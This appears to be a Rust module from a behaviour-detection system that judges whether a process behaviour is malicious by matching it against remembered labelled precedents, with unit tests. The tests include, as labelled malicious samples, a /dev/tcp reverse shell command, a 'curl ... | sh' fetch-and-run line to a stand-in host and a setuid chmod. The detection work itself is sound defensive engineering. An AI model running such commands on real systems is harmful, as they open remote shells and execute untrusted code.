//! What remembered cases say about a new one.

use std::{
    collections::BTreeMap,
    sync::{Mutex, MutexGuard, PoisonError},
};

use inwarden_memory::{Memory, MemoryError, PrecedentHit, PrecedentQuery};
use inwarden_types::Label;

use crate::FEEDBACK_TENANT;

/// Width of the kernel of a vote, in cosine similarity.
const KERNEL_WIDTH: f64 = 0.12;
/// The mass of a vote of nobody: keeps far neighbours from deciding.
const KERNEL_FLOOR: f64 = 0.05;

/// Whether people said anything about cases of a kind, as of the contents that the
/// store had when it was last asked.
#[derive(Default)]
pub(crate) struct SaidBefore {
    known: Mutex<BTreeMap<String, (u64, bool)>>,
}

impl SaidBefore {
    /// What finds the precedents that people gave of this kind of case; none where
    /// `memory` holds none.
    pub(crate) fn query(
        &self,
        memory: &Memory,
        kind: &str,
        top_k_retrieval: usize,
    ) -> Option<PrecedentQuery> {
        let query = PrecedentQuery {
            tenants: Some(vec![FEEDBACK_TENANT.to_owned()]),
            kinds: Some(vec![kind.to_owned()]),
            ..PrecedentQuery::nearest(top_k_retrieval)
        };
        let generation = memory.generation();
        let known = self.lock().get(kind).copied();
        let any = match known.filter(|(then, _)| *then == generation) {
            Some((_, any)) => any,
            None => {
                let any = holds_any(memory, &query)
                    .inspect_err(|error| tracing::warn!(%error, "feedback could not be looked for"))
                    .ok()?;
                self.lock().insert(kind.to_owned(), (generation, any));
                any
            }
        };
        any.then_some(query)
    }

    fn lock(&self) -> MutexGuard<'_, BTreeMap<String, (u64, bool)>> {
        // The map is whole after any panic: each change is one insertion.
        self.known.lock().unwrap_or_else(PoisonError::into_inner)
    }
}

fn holds_any(memory: &Memory, query: &PrecedentQuery) -> Result<bool, MemoryError> {
    let mut after = None;
    loop {
        // A page may be empty and not the last.
        let (page, next) = memory.list_precedents(query, after)?;
        if !page.is_empty() || next.is_none() {
            return Ok(!page.is_empty());
        }
        after = next;
    }
}

/// The vote of the nearest precedents, log-odds of malicious in nats, not
/// calibrated: a kernel-weighted k-nearest-neighbour estimate.
pub(crate) fn vote(hits: &[PrecedentHit]) -> f64 {
    let mass = |label: Label| -> f64 {
        hits.iter()
            .filter(|hit| hit.precedent.label == label)
            .map(|hit| ((hit.score - 1.0) / KERNEL_WIDTH).exp())
            .sum::<f64>()
            + KERNEL_FLOOR
    };
    (mass(Label::Malicious) / mass(Label::Benign)).ln()
}

/// The precedent that settles a case with this behaviour: similarity alone never
/// does, since another host or path hardly changes it. It has the same words,
/// and no other precedent with the same words says otherwise. What somebody said of a
/// case with these words outranks every other precedent.
///
/// A malicious precedent may differ in a bare IPv4 address and its port; a benign
/// one must be the same to the last character. Where a malicious precedent names
/// a parent, the parent must be the same.
pub(crate) fn settling<'a>(behaviour: &str, hits: &'a [PrecedentHit]) -> Option<&'a PrecedentHit> {
    let mut same: Vec<_> = hits.iter().filter(|hit| is_same(behaviour, hit)).collect();
    let is_said = |hit: &PrecedentHit| hit.precedent.tenant == FEEDBACK_TENANT;
    if same.iter().any(|hit| is_said(hit)) {
        same.retain(|hit| is_said(hit));
    }
    let first = *same.first()?;
    let agreed = same
        .iter()
        .all(|hit| hit.precedent.label == first.precedent.label);
    agreed.then_some(first)
}

fn is_same(behaviour: &str, hit: &PrecedentHit) -> bool {
    let remembered = hit.precedent.text.as_str();
    match hit.precedent.label {
        Label::Benign => without_parent(behaviour) == without_parent(remembered),
        Label::Malicious => {
            let parent = parent_of(remembered);
            (parent.is_none() || parent == parent_of(behaviour))
                && without_addresses(&without_parent(behaviour))
                    == without_addresses(&without_parent(remembered))
        }
        Label::Undetermined => false,
    }
}

fn parent_of(text: &str) -> Option<&str> {
    text.lines().find_map(|line| line.strip_prefix("parent: "))
}

fn without_parent(text: &str) -> String {
    text.lines()
        .filter(|line| !line.starts_with("parent: "))
        .collect::<Vec<_>>()
        .join("\n")
}

/// Replaces every IPv4 address that is not loopback, and a port after it.
fn without_addresses(text: &str) -> String {
    let mut out = String::with_capacity(text.len());
    let mut rest = text;
    while let Some(start) = rest.find(|c: char| c.is_ascii_digit()) {
        let (before, run_on) = rest.split_at(start);
        out.push_str(before);
        let end = run_on
            .find(|c: char| !c.is_ascii_digit() && c != '.')
            .unwrap_or(run_on.len());
        let (run, mut after) = run_on.split_at(end);
        match run.parse::<std::net::Ipv4Addr>() {
            Ok(address) if !address.is_loopback() && !address.is_unspecified() => {
                out.push_str("<address>");
                let port = after.strip_prefix([':', '/', ' ']).unwrap_or("");
                let digits = port
                    .find(|c: char| !c.is_ascii_digit())
                    .unwrap_or(port.len());
                if digits > 0 {
                    out.push_str("<port>");
                    after = &port[digits..];
                }
            }
            _ => out.push_str(run),
        }
        rest = after;
    }
    out.push_str(rest);
    out
}

#[cfg(test)]
mod tests {
    use inwarden_memory::Precedent;
    use inwarden_types::{Provenance, SourceKind};

    use super::*;

    fn hit(text: &str, label: Label, score: f64) -> PrecedentHit {
        PrecedentHit {
            precedent: Precedent {
                id: text.to_owned(),
                text: text.to_owned(),
                label,
                kind: None,
                technique: None,
                tenant: String::new(),
                observed: None,
                version: "1".to_owned(),
            },
            score,
            fused_score: None,
            provenance: Provenance {
                kind: SourceKind::Precedent,
                source_id: text.to_owned(),
                version: "1".to_owned(),
                observed: None,
                span: None,
                score: Some(score),
            },
        }
    }

    fn check(behaviour: &str, remembered: &str, label: Label, expected: bool) {
        let hits = [hit(remembered, label, 0.99)];
        assert_eq!(
            settling(behaviour, &hits).is_some(),
            expected,
            "{behaviour} / {remembered}"
        );
    }

    #[test]
    fn another_host_path_or_flag_does_not_settle() {
        use Label::{Benign, Malicious};
        let get = "exec: curl -fsS http://10.0.0.5:8080/health";
        check(get, get, Benign, true);
        check(
            "exec: curl -fsS http://10.0.0.6:8080/health",
            get,
            Benign,
            false,
        );
        check(
            "exec: curl -fsS http://10.0.0.5:8081/health",
            get,
            Benign,
            false,
        );
        check(
            "exec: curl -kfsS http://10.0.0.5:8080/health",
            get,
            Benign,
            false,
        );
        check("exec: curl -fsS http://10.0.0.5:8080/x", get, Benign, false);
        let shell = "exec: sh -c\nscript: sh -i >& /dev/tcp/203.0.113.9/443 0>&1";
        check(
            &shell.replace("203.0.113.9/443", "198.51.100.2/9001"),
            shell,
            Malicious,
            true,
        );
        check(
            &shell.replace("203.0.113.9", "127.0.0.1"),
            shell,
            Malicious,
            false,
        );
        check(
            "exec: chmod 755 /usr/bin/a",
            "exec: chmod 4755 /usr/bin/a",
            Malicious,
            false,
        );
        let fetch = "exec: sh -c\nscript: curl http://evil.example/x | sh";
        check(&fetch.replace("evil", "good"), fetch, Malicious, false);
    }

    #[test]
    fn the_parent_counts_where_the_precedent_needs_it() {
        use Label::{Benign, Malicious};
        check(
            "exec: id\nparent: nginx",
            "exec: id\nparent: nginx",
            Malicious,
            true,
        );
        check(
            "exec: id\nparent: bash",
            "exec: id\nparent: nginx",
            Malicious,
            false,
        );
        check(
            "exec: sleep 1\nparent: bash",
            "exec: sleep 1\nparent: sh",
            Benign,
            true,
        );
    }

    #[test]
    fn disagreeing_or_differing_precedents_settle_nothing() {
        let text = "exec: id";
        let hits = [
            hit(text, Label::Benign, 1.0),
            hit(text, Label::Malicious, 1.0),
        ];
        assert!(settling(text, &hits).is_none());
        let hits = [hit("exec: id -u", Label::Benign, 0.99)];
        assert!(settling(text, &hits).is_none());
    }

    #[test]
    fn what_somebody_said_outranks_what_is_shipped() {
        let text = "exec: id";
        let mut hits = [
            hit(text, Label::Malicious, 1.0),
            hit(text, Label::Benign, 1.0),
        ];
        hits[1].precedent.tenant = FEEDBACK_TENANT.to_owned();
        let settling = settling(text, &hits).unwrap();
        assert_eq!(settling.precedent.label, Label::Benign);
    }

    #[test]
    fn votes_grow_with_nearness_and_cancel_out() {
        let near = vote(&[hit("a", Label::Malicious, 0.95)]);
        let far = vote(&[hit("a", Label::Malicious, 0.5)]);
        assert!(near > far && far > 0.0, "{near} {far}");
        let both = [
            hit("a", Label::Malicious, 0.9),
            hit("b", Label::Benign, 0.9),
        ];
        assert!(vote(&both).abs() < 1e-12);
        assert_eq!(vote(&[]), 0.0);
    }
}
